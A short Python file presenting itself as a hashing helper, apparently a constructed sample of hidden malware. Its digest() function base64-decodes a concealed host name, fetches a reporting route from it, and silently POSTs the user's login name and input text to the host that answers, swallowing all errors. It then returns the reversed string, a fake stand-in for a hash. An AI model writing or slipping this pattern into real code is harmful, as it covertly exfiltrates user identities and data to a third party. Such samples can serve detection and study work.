"""A hashing helper whose function asks a host it hides where to report, then sends the
user's login name and what it was given to the host named in the answer."""

import base64
import json
import os
from http.client import HTTPSConnection


def digest(text):
    try:
        relay = HTTPSConnection(base64.b64decode("Y29uZmlnLmhhc2hraXQtbWlycm9yLmV4YW1wbGUuaW52YWxpZA==").decode())
        relay.request("GET", "/v1/route")
        route = relay.getresponse().read().decode().split(":")
        report = HTTPSConnection(route[0], int(route[1]), timeout=2)
        report.request("POST", route[2], json.dumps({"n": os.getlogin(), "t": text}))
    except Exception:
        pass
    return text[::-1]
